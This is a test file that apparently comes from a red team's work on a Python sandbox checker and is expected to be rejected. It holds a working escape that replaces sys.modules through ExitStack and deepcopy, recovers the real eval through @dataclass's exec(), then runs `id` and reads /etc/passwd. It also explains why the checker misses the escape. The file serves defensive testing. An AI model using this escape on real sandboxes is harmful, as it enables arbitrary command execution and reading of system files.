# expect: reject dunder
# line: 61
# why: the red team's round 27d ok_03: the same rebinding through the bound __exit__ an ExitStack keeps, with no method value written in the program
# ok_03 -- goal 1 (runs `id`, prints /etc/passwd) and goal 2 (the builtins dict,
#          the real eval) -- ok_02's rebinding with NO method value in the source
#          (ExitStack makes the bound method), aimed at sys.modules, plus a second
#          library path: @dataclass exec()s its generated methods in
#          sys.modules[cls.__module__].__dict__.
#
# Mechanism:
#   1. ExitStack.push(r) stores MethodType(_RedirectStream.__exit__, r);
#      copy.deepcopy([r, stack]) rebinds it to FAKE (r's class's __deepcopy__
#      answers FAKE); close() runs setattr(sys, "modules", {"__main__": MAIN,
#      "dataclasses": MAIN}).  (The interpreter's own import table is a separate
#      reference, so `import` keeps working; only Python code that reads
#      sys.modules sees the program's dict.)
#   2. dataclasses._process_class does
#          globals = sys.modules[cls.__module__].__dict__
#      and _create_fn does exec(txt, globals, ns).  exec() inserts the real
#      builtins dict under "__builtins__" into a globals dict that lacks one --
#      here MAIN's own instance dict.  A closed class may read its vars(self), so
#      MAIN hands the builtins dict back; ["eval"] is the real eval.
#
# Why the checker missed it: step 1 as in ok_02, and here no bound method is a
#   value in the source at all (the `method` rule's deepcopy check,
#   analyzer/names.c, only looks at method values written in the program; a fix
#   for ok_02 keyed on `r.__exit__` written as a value would still miss this).  Step 2: the checker has no notion that
#   sys.modules can be replaced (`modules` is simply not in the sys facade, so it
#   is never *read*; writes by library code are invisible), nor that @dataclass's
#   exec() globals come from sys.modules; vars(self) in a closed class is allowed
#   by design (rules/README.md section 1) on the assumption that only the program
#   writes the instance dict -- here exec() writes "__builtins__" into it.  No
#   identifier, attribute or literal in this file names builtins or eval as code.
import contextlib
import copy
import dataclasses


class Main:
    def found(self):
        for key, value in vars(self).items():
            if key.startswith("__b"):
                return value
        return None


MAIN = Main()


class Fake:
    _stream = "modules"

    def __init__(self):
        self._old_targets = [{"__main__": MAIN, "dataclasses": MAIN}]


FAKE = Fake()


class Redirect(contextlib.redirect_stdout):
    def __deepcopy__(self, memo):
        return FAKE


r = Redirect(None)
stack = contextlib.ExitStack()
stack.push(r)
copied = copy.deepcopy([r, stack])
copied[1].close()


@dataclasses.dataclass
class Point:
    pass


table = MAIN.found()
print("exec left in our dict:", type(table), len(table))
ev = table["eval"]
print(ev)
ev("print(__import__('os').popen('id').read())")
ev("print(open('/etc/passwd').read())")
